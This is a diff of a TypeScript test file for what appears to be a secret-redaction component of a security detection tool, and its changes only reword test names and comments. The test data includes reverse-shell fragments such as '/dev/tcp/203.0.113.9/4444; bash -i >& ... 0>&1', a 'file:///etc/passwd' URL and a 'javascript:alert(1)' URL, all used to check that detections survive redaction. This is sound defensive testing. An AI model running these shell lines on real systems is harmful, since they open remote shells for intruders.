@@ -11,7 +11,7 @@ import { draws, sized } from '../full.ts';
 import { made, placed } from './corpus.ts';
 import { ORDINARY } from './ordinary.ts';
 
-/** Texts of which nothing is a secret. */
+/** Texts without any secret. */
 const HARMLESS = [
   made('commit {hex:40}'),
   made('sha256:{hex:64}'),
@@ -73,7 +73,7 @@ test.each([
   expect(DEFAULT_REDACTOR.text(text)).toBe(text);
 });
 
-it('masks nothing in generated detections and command lines: ten thousand the long way', () => {
+it('masks nothing in generated detections and command lines', () => {
   const masks = new Map<string, number>();
   const count = (rule: string): void => void masks.set(rule, (masks.get(rule) ?? 0) + 1);
   for (let number = 0; number < sized(5_000, 1_000); number += 1) {
@@ -165,7 +165,7 @@ const decoy = fc.constantFrom(
   '; # /dev/tcp/198.51.100.1/1\n',
 );
 
-it('hides neither destination nor technique, whatever is put around a shell', () => {
+it('hides neither destination nor technique, whatever surrounds a shell', () => {
   fc.assert(
     fc.property(around, around, shell, decoy, decoy, (before, after, run, one, other) => {
       const line = `${one}${before} ${run} ${after}${other}`;
@@ -179,7 +179,7 @@ it('hides neither destination nor technique, whatever is put around a shell', ()
   );
 });
 
-it('hides no destination that nothing but a far end tells', () => {
+it('hides no destination that only a far end shows', () => {
   fc.assert(
     fc.property(around, around, (before, after) => {
       const line = `${before} /dev/tcp/203.0.113.9/4444; bash -i >& $key 0>&1 ${after}`;
@@ -208,7 +208,7 @@ it('gives a detection the uid that it has without redaction', () => {
   );
 });
 
-it('keeps the host of a request that carries a secret', () => {
+it('keeps the host of a request that contains a secret', () => {
   fc.assert(
     fc.property(around, (text) => {
       const { endpoint, container } = read(
@@ -230,7 +230,7 @@ it('keeps the host of a request that carries a secret', () => {
 });
 
 test.each(['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', '//a.example/x', ' https', 'x'])(
-  'an html_url that is no address of the web is no link: %s',
+  'an html_url that is not a web address is not a link: %s',
   (html_url) => {
     const { link } = read(payloadOf('Reverse-Shell', { html_url }));
     expect(link ?? '').toMatch(/^(?:|https:\/\/.*)$/);
